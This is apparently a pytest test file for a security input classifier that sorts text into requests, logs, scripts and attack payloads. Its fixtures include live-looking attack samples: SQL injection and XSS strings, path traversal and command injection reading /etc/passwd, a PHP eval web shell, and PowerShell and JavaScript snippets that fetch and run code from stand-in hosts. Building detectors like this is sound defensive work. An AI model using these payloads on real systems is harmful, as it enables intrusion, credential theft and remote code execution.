"""The input identifier: golden cases per kind, bad input, batch = single, files, model round trip.

Hermetic: the shipped model (``src/secllm/assets/identify``) and items written here; no datasets.
The golden items are hand-written obvious examples (test cases, never training data).
"""

from __future__ import annotations

import gzip
import json
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
from click.testing import CliRunner

from secllm.identify import Identifier, Status
from secllm.identify.features import FeatureConfig, featurize
from secllm.identify.rules import control_fraction, sniff_magic, structural


@pytest.fixture(scope="module")
def idf() -> Identifier:
    return Identifier.load()


GOLDEN: dict[str, list[str]] = {
    "http-request": [
        "GET / HTTP/1.1\r\nHost: a\r\n\r\n",
        "POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        "Content-Length: 19\r\n\r\nuser=bob&pass=hunter",
        "GET /index.php?id=1%27%20or%201=1-- HTTP/1.0\nUser-Agent: sqlmap/1.7\nAccept: */*\n\n",
    ],
    "url": [
        "https://www.wikipedia.org/wiki/Main_Page",
        "http://evil.example/shell.txt?",
        "/index.php?page=http://evil.example/shell.txt",
        "/search?q=shoes&page=2",
        "/wp-content/themes/twentyten/style.css?ver=3.0.1",
    ],
    "payload": [
        "1' or 1=1--",
        "<script>alert(document.cookie)</script>",
        "../../../../etc/passwd",
        "; cat /etc/passwd",
        "' union select username, password from users--",
    ],
    "access-log": [
        '203.0.113.9 - - [10/Oct/2023:13:55:36 +0000] "GET /a.php?id=1 HTTP/1.1" 200 512 "-" "Mozilla/5.0"',
        '10.1.2.3 - bob [01/Jan/2024:00:00:01 +0100] "POST /login HTTP/1.1" 302 0',
        'www.example.com:443 198.51.100.7 - - [02/Feb/2022:10:11:12 -0500] "GET / HTTP/2.0" 200 1024 "-" "curl/8.0"',
        "2023-10-10 13:55:36 10.0.0.5 GET /default.aspx q=1 443 - 198.51.100.3 Mozilla/5.0+(Windows+NT+10.0) - 200 0 0 31",
        '{"time":"2023-10-10T13:55:36+00:00","remote_addr":"198.51.100.3","request":"GET / HTTP/1.1","status":200,"body_bytes_sent":612}',
    ],
    "log-line": [
        "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for invalid user admin from 203.0.113.5 port 2191 ssh2",
        "[Sun Dec 04 04:47:44 2005] [error] mod_jk child workerEnv in error state 6",
        "2023/10/10 13:55:36 [error] 1234#1234: *1 open() \"/usr/share/nginx/html/x\" failed (2: No such file or directory)",
        "081109 203615 148 INFO dfs.DataNode$PacketResponder: PacketResponder 1 for block blk_38865049064139660 terminating",
        "2015-10-18 18:01:47,978 INFO [main] org.apache.hadoop.mapreduce.v2.app.MRAppMaster: Created MRAppMaster for application appattempt_1445144423722_0020_000001",
    ],
    "windows-event": [
        '<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="Microsoft-Windows-Security-Auditing"/>'
        "<EventID>4624</EventID><Channel>Security</Channel></System><EventData><Data Name=\"LogonType\">3</Data></EventData></Event>",
        '{"Event": {"System": {"EventID": 4688, "Channel": "Security"}, "EventData": {"NewProcessName": "C:\\\\Windows\\\\cmd.exe"}}}',
    ],
    "event-sequence": ["5 5 22 5 11 9 11 9 11 9 26 26 26 4 4 3 2 23 23 23 21 21", "5,22,11,9,26,26,23,21,21"],
    "script-powershell": [
        "$wc = New-Object System.Net.WebClient\n$wc.DownloadFile('http://x.example/a.exe', \"$env:TEMP\\a.exe\")\n"
        "Start-Process \"$env:TEMP\\a.exe\"\n",
        "function Get-Thing {\n    [CmdletBinding()]\n    param([Parameter(Mandatory=$true)][string]$Name)\n"
        "    Write-Output \"Hello $Name\"\n}\n",
    ],
    "script-javascript": [
        "function add(a, b) {\n  return a + b;\n}\nconsole.log(add(1, 2));\nvar x = document.getElementById('y');\n",
        "<html><body><script>var s = document.createElement('script'); s.src = 'http://x.example/a.js';"
        " document.body.appendChild(s);</script></body></html>",
    ],
    "script-php": ["<?php @eval($_POST['cmd']); ?>", "<?php\nfunction f($a) {\n  return strlen($a);\n}\necho f('x');\n"],
    "script-shell": ["#!/bin/sh\nset -e\nfor f in *.txt; do\n  echo \"$f\"\ndone\n"],
    "script-python": ["#!/usr/bin/env python3\nimport sys\n\ndef main():\n    print(sys.argv)\n"],
    "cti-text": [
        "APT28 has used spearphishing emails with malicious Office attachments to deliver the X-Agent backdoor.",
        "SQL injection vulnerability in login.php in Example CMS 1.2 allows remote attackers to execute arbitrary "
        "SQL commands via the username parameter.",
    ],
}


@pytest.mark.parametrize("kind,text", [(k, t) for k, ts in GOLDEN.items() for t in ts])
def test_golden(idf, kind, text):
    r = idf.identify(text)
    assert r.kind == kind, (r, text)
    assert r.status == "ok"
    assert 0.0 <= r.confidence <= 1.0


def test_log_families(idf):
    fam = {
        "Dec 10 06:55:46 LabSZ sshd[24200]: Failed password for root from 203.0.113.5 port 22 ssh2": "openssh",
        "[Sun Dec 04 04:47:44 2005] [error] mod_jk child workerEnv in error state 6": "apache-error",
        "2023/10/10 13:55:36 [error] 1234#1234: *1 open() failed": "nginx-error",
        "17/06/09 20:10:40 INFO executor.CoarseGrainedExecutorBackend: Registered signal handlers for [TERM, HUP, INT]": "spark",
        "2015-07-29 17:41:44,747 - INFO  [QuorumPeer[myid=1]/0:0:0:0:0:0:0:0:2181:FastLeaderElection@774] - "
        "Notification time out: 3200": "zookeeper",
    }
    for text, family in fam.items():
        r = idf.identify(text)
        assert (r.kind, r.family) == ("log-line", family), (text, r)


def test_binary_and_pcap_items(idf):
    assert idf.identify(bytes(range(256)) * 4).kind == "binary"
    assert idf.identify(b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + bytes(16)).kind == "pcap"
    r = idf.identify(gzip.compress(b"hello world"))
    assert (r.kind, r.family) == ("binary", "gzip")


# --------------------------------------------------------------------------------------------
# bad input
# --------------------------------------------------------------------------------------------

def test_bad_input_statuses(idf):
    rs = idf.identify_batch([b"", "   \n", b"\xff\xfe' or 1=1--", "x" * 100_000, 42, None, "1' or 1=1--"])  # type: ignore[list-item]
    assert [r.status for r in rs] == ["empty", "empty", "invalid-utf8", "truncated", "error", "error", "ok"]
    assert rs[0].kind == rs[1].kind == "unknown"
    assert rs[4].kind == "unknown" and "int" in rs[4].message
    assert rs[6].kind == "payload"  # the batch goes on after bad items


def test_huge_item_is_bounded(idf):
    big = "Dec 10 06:55:46 LabSZ sshd[1]: Accepted password for bob from 203.0.113.5 port 22 ssh2 " + "A" * 5_000_000
    r = idf.identify(big)
    assert r.status == "truncated" and r.ok


def test_utf8_cut_by_bound_is_not_invalid(idf):
    raw = ("中文" * 20_000).encode("utf-8")[:100_001]  # ends inside a character, far beyond the bound
    assert idf.identify(raw).status == "truncated"


def test_control_fraction():
    assert control_fraction("") == 0.0
    assert control_fraction("abc\x00") == 0.25
    assert control_fraction("tab\tand\nnewline\r\n") == 0.0


# --------------------------------------------------------------------------------------------
# batch = single
# --------------------------------------------------------------------------------------------

def test_batch_equals_single(idf):
    items = [t for ts in GOLDEN.values() for t in ts] + ["hello world", "42", "中文文本的例子，这是一个普通的句子。"]
    batch = idf.identify_batch(items)
    for text, b in zip(items, batch):
        s = idf.identify(text)
        assert (s.kind, s.family, s.status, s.method) == (b.kind, b.family, b.status, b.method)
        assert s.confidence == pytest.approx(b.confidence, abs=1e-5)
    # a tiny batch size gives the same answers as one big batch
    small = idf.identify_batch(items, batch_size=3)
    assert [r.label for r in small] == [r.label for r in batch]


def test_features_batch_equals_single():
    cfg = FeatureConfig(buckets_log2=10, prefix_log2=8)
    texts = ["GET / HTTP/1.1", "a", "", "héllo wörld", "x" * 3000]
    rng = np.random.default_rng(0)
    w, wp, wd = rng.normal(size=(1024, 5)), rng.normal(size=(256, 5)), rng.normal(size=(12, 5))
    b = np.zeros(5)
    whole = featurize(texts, cfg).logits(w, wp, wd, b)
    for i, t in enumerate(texts):
        assert np.allclose(featurize([t], cfg).logits(w, wp, wd, b)[0], whole[i], atol=1e-4)


# --------------------------------------------------------------------------------------------
# files
# --------------------------------------------------------------------------------------------

ACCESS = [
    f'198.51.100.{i % 250} - - [10/Oct/2023:13:{i % 60:02d}:36 +0000] "GET /item?id={i} HTTP/1.1" 200 {100 + i} "-" "Mozilla/5.0"'
    for i in range(300)
]
SSH = [f"Dec 10 06:{i % 60:02d}:46 LabSZ sshd[{24200 + i}]: Failed password for root from 203.0.113.{i % 250} port {2000 + i} ssh2"
       for i in range(300)]


def test_identify_file_pure_access_log(idf, tmp_path):
    p = tmp_path / "access.log"
    p.write_text("\n".join(ACCESS) + "\n")
    f = idf.identify_file(p)
    assert (f.kind, f.family, f.unit, f.mixed) == ("access-log", "combined", "line", False)
    assert f.lines_sampled == 256 and f.counts == {"access-log/combined": 256}
    gz = tmp_path / "access.log.gz"
    gz.write_bytes(gzip.compress(p.read_bytes()))
    g = idf.identify_file(gz)
    assert (g.kind, g.compressed, g.mixed) == ("access-log", "gzip", False)


def test_identify_file_mixed(idf, tmp_path):
    p = tmp_path / "mixed.log"
    p.write_text("\n".join(a for pair in zip(ACCESS[:100], SSH[:100]) for a in pair) + "\n")
    f = idf.identify_file(p)
    assert f.mixed and f.unit == "line"
    assert set(f.counts) == {"access-log/combined", "log-line/openssh"}


def test_identify_file_ssh_log(idf, tmp_path):
    p = tmp_path / "auth.log"
    p.write_text("\n".join(SSH) + "\n")
    f = idf.identify_file(p)
    assert (f.kind, f.family, f.mixed) == ("log-line", "openssh", False)


def test_identify_file_script_capture_empty(idf, tmp_path):
    s = tmp_path / "tool.py"
    s.write_text(GOLDEN["script-python"][0] + "\n".join(f"    x{i} = compute({i})" for i in range(40)) + "\n")
    f = idf.identify_file(s)
    assert (f.kind, f.unit) == ("script-python", "file")
    cap = tmp_path / "c.pcap"
    cap.write_bytes(b"\xd4\xc3\xb2\xa1\x02\x00\x04\x00" + bytes(100))
    assert idf.identify_file(cap).kind == "pcap"
    e = tmp_path / "empty.txt"
    e.write_bytes(b"")
    assert idf.identify_file(e).status == "empty"
    bad = tmp_path / "bad.gz"
    bad.write_bytes(b"\x1f\x8b\x08\x00garbage")
    r = idf.identify_file(bad)
    assert r.status == "error" and r.kind == "unknown"


# --------------------------------------------------------------------------------------------
# the model directory
# --------------------------------------------------------------------------------------------

def test_model_round_trip(idf, tmp_path):
    out = idf.save(tmp_path / "m")
    again = Identifier.load(out)
    texts = [t for ts in GOLDEN.values() for t in ts]
    a = idf.label_probabilities(texts)
    b = again.label_probabilities(texts)
    # stored int8 / float16: a round trip of the shipped (already rounded) weights is exact
    assert np.allclose(a, b, atol=1e-6)
    assert again.threshold == idf.threshold and again.labels == idf.labels


def test_save_model_keeps_transposed_arrays(tmp_path):
    """Weights handed over as transposed views (as a trainer's ``weight.T`` is) load back equal."""
    from secllm.identify.model import save_model

    cfg = FeatureConfig(buckets_log2=8, prefix_log2=6)
    rng = np.random.default_rng(0)
    labels = ["payload", "url", "log-line:openssh"]
    codes = rng.integers(-127, 128, size=(256, 4))
    codes[0] = 127                                             # each dimension's largest magnitude: its scale
    embed = (codes * np.array([0.01, 0.02, 0.03, 0.04])).astype(np.float32)   # exact in int8 codes
    proj = np.asfortranarray(rng.normal(size=(4, 3)).astype(np.float32))
    w_dense = rng.normal(size=(3, 12)).astype(np.float32).T          # a transposed view
    prefix = rng.normal(size=(64, 3)).astype(np.float16).astype(np.float32)
    out = save_model(tmp_path / "m", cfg=cfg, labels=labels, embed=embed, proj=proj, w_prefix=prefix,
                     w_dense=w_dense, bias=np.zeros(3, np.float32), threshold=0.5)
    m = Identifier.load(out)
    assert np.array_equal(m.proj, proj) and np.array_equal(m.w_dense, w_dense)
    assert np.allclose(m.embed_t.T, embed, atol=1e-5) and m.threshold == 0.5


def test_model_checks_its_weights(idf, tmp_path):
    out = idf.save(tmp_path / "m")
    cfg = json.loads((out / "config.json").read_text())
    cfg["weights_sha256"] = "0" * 64
    (out / "config.json").write_text(json.dumps(cfg))
    with pytest.raises(ValueError, match="checksum"):
        Identifier.load(out)
    with pytest.raises(FileNotFoundError):
        Identifier.load(tmp_path / "nowhere")


def test_serving_imports_no_training_stack():
    code = ("import sys; from secllm.identify import Identifier; Identifier.load().identify('x');"
            "bad = [m for m in ('torch', 'sklearn', 'scipy', 'transformers') if m in sys.modules]; print(bad)")
    out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert out.stdout.strip() == "[]"


# --------------------------------------------------------------------------------------------
# rules
# --------------------------------------------------------------------------------------------

def test_structural_rules():
    assert structural('1.2.3.4 - - [10/Oct/2023:13:55:36 +0000] "GET / HTTP/1.1" 200 5').family == "common"
    assert structural("#Fields: date time s-ip cs-method cs-uri-stem").family == "iis-w3c"
    assert structural("#!/usr/bin/env bash\necho hi").kind == "script-shell"
    assert structural("#!/usr/bin/perl -w\nprint 1;").kind == "script-other"
    assert structural("#!/usr/bin/python3.11\nprint(1)").kind == "script-python"
    assert structural("GET / HTTP/1.1\nnot a header line") is None
    assert structural("GET / HTTP/1.1").kind == "http-request"
    assert structural("https://example.com/a b") is None  # a blank: not one URL
    assert structural("1 2") is None                      # too short for an event sequence
    assert structural('{"a": 1}') is None
    assert structural('{"level":"info","msg":"started","ts":1}').family == "other"
    assert sniff_magic(b"\x0a\x0d\x0d\x0a\x1c\x00\x00\x00").kind == "pcap"
    assert sniff_magic(b"BZh91AY&SY\x00").family == "bzip2"
    assert sniff_magic(b"BZh is a word") is None


# --------------------------------------------------------------------------------------------
# CLI
# --------------------------------------------------------------------------------------------

def test_cli_identify(tmp_path):
    from secllm.cli import main

    runner = CliRunner()
    r = runner.invoke(main, ["identify", "--json", "GET / HTTP/1.1\r\nHost: a\r\n\r\n", "1' or 1=1--"])
    assert r.exit_code == 0, r.output
    rows = [json.loads(x) for x in r.output.splitlines()]
    assert [x["kind"] for x in rows] == ["http-request", "payload"]
    p = tmp_path / "access.log"
    p.write_text("\n".join(ACCESS[:20]) + "\n")
    r = runner.invoke(main, ["identify", "--file", str(p), "--lines", "--json"])
    assert r.exit_code == 0, r.output
    rows = [json.loads(x) for x in r.output.splitlines()]
    assert rows[0]["kind"] == "access-log" and rows[0]["unit"] == "line"
    assert len(rows) == 21 and rows[1]["line"] == 1
    r = runner.invoke(main, ["identify", "--lines"])
    assert r.exit_code != 0 and "--lines needs --file" in r.output
    r = runner.invoke(main, ["identify", "--model", str(tmp_path), "x"])
    assert r.exit_code != 0 and "Traceback" not in r.output
